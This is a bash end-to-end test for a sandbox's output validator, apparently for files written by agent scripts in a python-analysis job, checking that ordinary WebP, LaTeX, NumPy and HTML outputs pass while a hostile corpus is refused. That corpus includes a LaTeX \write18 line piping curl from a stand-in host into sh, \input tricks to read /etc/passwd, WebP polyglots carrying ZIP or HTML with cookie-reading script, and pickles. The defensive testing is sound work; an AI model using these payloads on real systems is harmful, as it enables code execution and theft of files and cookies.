#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# outputs-media2.sh - WebP, LaTeX, NumPy arrays, pickles and HTML from
# what agent scripts write in python-analysis (issue 26): PIL's WebP
# thumbnail, statsmodels' LaTeX summary, numpy.save of numbers and a
# pandas to_html table are promoted; the hostile corpus beside them is
# refused with its reason: a WebP with a 16383x16383 canvas around a 1x1
# frame, a RIFF size that lies, a truncated file, a chunk that overflows,
# a WebP with a ZIP or HTML hidden after its image or in its metadata, a
# PNG named .webp, an animation; LaTeX with \write18, \input of an absolute
# or parent path, catcode and ^^ tricks; pickles by name and by content
# (renamed), object arrays in .npy, an .npz; HTML with a script.  The
# validator decodes the WebP files with libwebp inside its confinement:
# a decode that needed more than that confinement allows would kill it
# and fail the run's validation, which the first checks would see.
. "$SBX_SRCDIR/tests/e2e/lib.sh"

artifact() { jq -r --arg p "$1" ".artifacts[] | select(.path == \$p) | $2" "$OUT"; }
status_of() { artifact "$1" '(.media_type // "-") + " " + .status + ": " + (.reason // "") + " flags=" + ((.flags // []) | join(","))'; }
promoted() { # PATH TYPE [FLAGS]: promoted as TYPE, with exactly these flags
	local r
	r=$(status_of "$1")
	[ "$r" = "$2 promoted:  flags=${3:-}" ] && return 0
	diag "$1: $r"
	return 1
}
rejected_because() { # PATH REGEX
	local r
	r=$(status_of "$1")
	[[ "$r" =~ ^[^\ ]*\ rejected:\ .*$2 ]] && return 0
	diag "$1: $r"
	return 1
}
PICKLE='pickle: .*a Python pickle runs code when loaded; write Parquet, CSV or \.npy without pickles \(allow_pickle=False\)'

# The payload: what the agent scripts write, then the hostile files.
cat > "$T/agent.py" <<'PY'
import io, pickle, struct, zipfile
import numpy as np, pandas as pd
from PIL import Image
import statsmodels.api as sm
out = "/work/out/"

# --- what ordinary scripts write ---
img = Image.new("RGB", (320, 200), (20, 120, 200))
thumb = img.copy()
thumb.thumbnail((64, 64))
thumb.save(out + "thumb.webp", "WEBP", quality=80)
img.save(out + "lossless.webp", "WEBP", lossless=True)
Image.new("RGBA", (32, 32), (1, 2, 3, 100)).save(out + "alpha.webp", "WEBP")
img.save(out + "exif.webp", "WEBP", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0")
# 49000000 pixels: the validator decodes it into 196 MB, within the run's
# memory; 50410000 is over the cap and refused before decoding.
Image.new("RGB", (7000, 7000), (5, 6, 7)).save(out + "big.webp", "WEBP", quality=50)
Image.new("RGB", (7100, 7100), (5, 6, 7)).save(out + "toobig.webp", "WEBP", quality=50)
x = np.arange(30.0)
res = sm.OLS(2 * x + 1 + np.sin(x), sm.add_constant(x)).fit()
open(out + "ols.tex", "w").write(res.summary().as_latex())
open(out + "ols2.tex", "w").write(res.summary2().as_latex())
open(out + "links.tex", "w").write("See \\url{https://example.org/} and \\input{tables/t1}.\n")
np.save(out + "matrix.npy", np.arange(12.0).reshape(3, 4))
np.save(out + "labels.npy", np.array(["north", "south"]))
pd.DataFrame({"region": ["north", "south"], "total": [3, 1]}).to_html(out + "table.html")

# --- WebP: the hostile corpus ---
good = open(out + "thumb.webp", "rb").read()
def riff(body):
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body
def chunk(tag, data):
    return tag + struct.pack("<I", len(data)) + data + (b"\0" if len(data) % 2 else b"")
def vp8x(w, h, flags=0):
    return chunk(b"VP8X", bytes([flags, 0, 0, 0]) + (w - 1).to_bytes(3, "little") + (h - 1).to_bytes(3, "little"))
b = io.BytesIO(); Image.new("RGB", (1, 1)).save(b, "WEBP"); tiny = b.getvalue()[12:]
open(out + "huge.webp", "wb").write(riff(vp8x(16383, 16383) + tiny))
open(out + "riffsize.webp", "wb").write(good[:4] + struct.pack("<I", len(good) - 8 - 16) + good[8:])
open(out + "trunc.webp", "wb").write(good[:len(good) // 2])
bad = bytearray(good); bad[16:20] = struct.pack("<I", 0x7ffffff0)
open(out + "overflow.webp", "wb").write(bytes(bad))
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as zf:
    zf.writestr("index.html", "<html><script>alert(document.cookie)</script></html>")
open(out + "zipafter.webp", "wb").write(good + zb.getvalue())
open(out + "htmlafter.webp", "wb").write(good + b"<html><script>alert(1)</script></html>")
# The ZIP inside the RIFF, in an EXIF chunk of an extended file, sizes right.
w, h = thumb.size
open(out + "zipexif.webp", "wb").write(riff(vp8x(w, h, 0x08) + good[12:] + chunk(b"EXIF", zb.getvalue())))
b = io.BytesIO(); img.save(b, "PNG"); open(out + "png.webp", "wb").write(b.getvalue())
img.save(out + "anim.webp", "WEBP", save_all=True, append_images=[Image.new("RGB", (320, 200))])

# --- LaTeX: the hostile corpus ---
open(out + "write18.tex", "w").write("\\immediate\\write18{curl http://192.0.2.1/x | sh}\n")
open(out + "abs.tex", "w").write("\\input{/etc/passwd}\n")
open(out + "parent.tex", "w").write("\\include{../../secrets}\n")
open(out + "catcode.tex", "w").write("\\catcode`\\|=0 |input|etc|passwd\n")
open(out + "caret.tex", "w").write("^^5cinput{/etc/passwd}\n")
open(out + "alias.tex", "w").write("\\let\\x=\\input \\x{/etc/passwd}\n")
open(out + "embed.tex", "w").write("\\pdfobj file {/etc/passwd}\n")

# --- pickles and code as data ---
pickle.dump({"model": [1, 2]}, open(out + "model.pkl", "wb"))
pickle.dump({"model": [1, 2]}, open(out + "renamed.csv", "wb"))
np.save(out + "objects.npy", np.array([{"a": 1}, None], dtype=object), allow_pickle=True)
np.savez(out + "arrays.npz", a=np.arange(3))

# --- HTML with something that runs ---
open(out + "script.html", "w").write("<table><tr><td>1</td></tr></table><script>alert(1)</script>\n")
PY

for mode in root user; do
	setup_mode $mode

	mkjob "$M/j.json" python-analysis "$(cat "$T/agent.py")" \
		'{limits: {memory_mib: 1024, wall_seconds: 180, output_files: 64},
		  outputs: {"thumb.webp": {width: {max: 64}, height: {max: 64}},
			    "lossless.webp": {required: false, width: {max: 100}}}}'
	sbx_run "$M/j.json"
	expect_rc 0 "$mode: the agent script runs; refusals do not fail it"
	check "$mode: the validator answered for every file (no crash under its confinement)" \
		test "$(jq '.artifacts | length' "$OUT")" -eq 33

	# What ordinary scripts write: promoted.
	check "$mode: PIL's WebP thumbnail: promoted" promoted thumb.webp image/webp
	check "$mode: ... within its contract's width and height" \
		test "$(artifact thumb.webp '.contract.ok')" = true
	check "$mode: a 320-pixel-wide WebP against a contract of at most 100: rejected" \
		rejected_because lossless.webp 'output contract'
	check "$mode: a WebP with alpha: promoted" promoted alpha.webp image/webp
	check "$mode: a WebP with EXIF metadata: promoted" promoted exif.webp image/webp
	check "$mode: a 7000x7000 WebP: decoded in the validator's confinement, promoted" \
		promoted big.webp image/webp
	check "$mode: a 7100x7100 WebP (no VP8X): rejected before decoding" \
		rejected_because toobig.webp 'webp: 7100x7100 exceeds 50000000 pixels'
	check "$mode: statsmodels' summary().as_latex(): promoted" promoted ols.tex text/x-tex
	check "$mode: statsmodels' summary2().as_latex(): promoted" promoted ols2.tex text/x-tex
	check "$mode: LaTeX with \\url and a relative \\input: promoted, flagged links" \
		promoted links.tex text/x-tex links
	check "$mode: numpy.save of floats: promoted" promoted matrix.npy application/x-npy
	check "$mode: numpy.save of strings: promoted" promoted labels.npy application/x-npy
	check "$mode: pandas' to_html table: promoted" promoted table.html text/html

	# WebP, hostile.
	check "$mode: WebP with a 16383x16383 canvas around a 1x1 frame: rejected before decoding" \
		rejected_because huge.webp 'webp: VP8X canvas 16383x16383 exceeds 50000000 pixels'
	check "$mode: WebP whose RIFF size lies: rejected" rejected_because riffsize.webp 'webp: RIFF size'
	check "$mode: truncated WebP: rejected" rejected_because trunc.webp 'webp: RIFF size .*missing data'
	check "$mode: WebP with a chunk size past the end: rejected" \
		rejected_because overflow.webp 'webp: VP8  chunk .* runs past the end'
	check "$mode: WebP with a ZIP appended: rejected" rejected_because zipafter.webp 'webp: RIFF size .*trailing'
	check "$mode: WebP with HTML appended: rejected" rejected_because htmlafter.webp 'webp: RIFF size .*trailing'
	check "$mode: WebP with a ZIP in its EXIF chunk: rejected" \
		rejected_because zipexif.webp 'webp: EXIF chunk holds a ZIP local header'
	check "$mode: a PNG named .webp: rejected" \
		rejected_because png.webp 'content is image/png but the extension says image/webp'
	check "$mode: an animated WebP: rejected" rejected_because anim.webp 'webp: animation'

	# LaTeX, hostile.
	check "$mode: LaTeX with \\immediate\\write18: rejected" rejected_because write18.tex 'tex: \\write at offset 10'
	check "$mode: LaTeX that inputs /etc/passwd: rejected" rejected_because abs.tex 'tex: \\input of "/etc/passwd"'
	check "$mode: LaTeX that includes a parent path: rejected" rejected_because parent.tex 'tex: \\include of "\.\./\.\./secrets"'
	check "$mode: LaTeX that changes catcodes: rejected" rejected_because catcode.tex 'tex: \\catcode'
	check "$mode: LaTeX with ^^ notation: rejected" rejected_because caret.tex 'tex: \^\^ notation'
	check "$mode: LaTeX that aliases \\input: rejected" \
		rejected_because alias.tex 'tex: \\input without a literal path'
	check "$mode: LaTeX that embeds a file with \\pdfobj: rejected" \
		rejected_because embed.tex 'tex: \\pdfobj at offset 0: opens or embeds files'

	# Pickles, whatever their name.
	check "$mode: a .pkl: rejected, saying what to write instead" rejected_because model.pkl "$PICKLE"
	check "$mode: a pickle named .csv: rejected as a pickle" rejected_because renamed.csv "pickle: pickle protocol [2-5]: .*allow_pickle=False"
	check "$mode: a .npy of Python objects: rejected as a pickle" \
		rejected_because objects.npy "pickle: npy object array .*allow_pickle=False"
	check "$mode: an .npz: rejected as code as data" rejected_because arrays.npz "pickle: a \.npz file: "

	# HTML with a script: refused by python-analysis.
	check "$mode: HTML with a script: rejected (refuse_active_content)" \
		rejected_because script.html 'active_content: text/html'

	# What a program reads instead of the reason: each refusal's code.
	codes_ok() {
		local pair bad=
		for pair in huge.webp=too_large toobig.webp=too_large zipexif.webp=polyglot \
			riffsize.webp=invalid_content png.webp=type_mismatch write18.tex=active_content \
			abs.tex=active_content alias.tex=active_content caret.tex=active_content \
			model.pkl=code_as_data renamed.csv=code_as_data objects.npy=code_as_data \
			arrays.npz=code_as_data script.html=active_content lossless.webp=contract_failed; do
			[ "$(artifact "${pair%%=*}" .reason_code)" = "${pair#*=}" ] ||
				bad="$bad ${pair%%=*}:$(artifact "${pair%%=*}" .reason_code)"
		done
		[ -z "$bad" ] || diag "reason codes:$bad"
		[ -z "$bad" ]
	}
	check "$mode: reason codes: too_large, polyglot, active_content, code_as_data, contract_failed" codes_ok
	check "$mode: only the promoted files reach --artifacts" \
		test "$(cd "$ART" && find . -type f | sort | tr '\n' ' ')" = "./alpha.webp ./big.webp ./exif.webp ./labels.npy ./links.tex ./matrix.npy ./ols.tex ./ols2.tex ./table.html ./thumb.webp "
	check "$mode: the manifest's signature verifies" signature_ok

	# The decode buffer is bounded by the run's memory: the same 7000x7000
	# file from a run of 64 MiB is refused with what to change, not
	# killed mid-decode.
	cp "$ART/big.webp" "$M/store/$PRINCIPAL/big.webp"
	[ "$MODE" = user ] && chown "$SBX_TEST_USER" "$M/store/$PRINCIPAL/big.webp"
	mkjob "$M/j.json" python-analysis 'import shutil; shutil.copy("/work/in/big.webp", "/work/out/big.webp")' \
		'{input_handles: ["big.webp"], limits: {memory_mib: 64}}'
	sbx_run "$M/j.json"
	expect_rc 0 "$mode: a 7000x7000 WebP from a 64 MiB run: the run succeeds"
	check "$mode: ... and the WebP is rejected: its decode does not fit the validator's memory" \
		rejected_because big.webp 'webp: 7000x7000 needs 187 MiB to decode, more than the validator may use \(raise limits.memory_mib\)'
	check "$mode: nothing left behind" nothing_left
done

finish
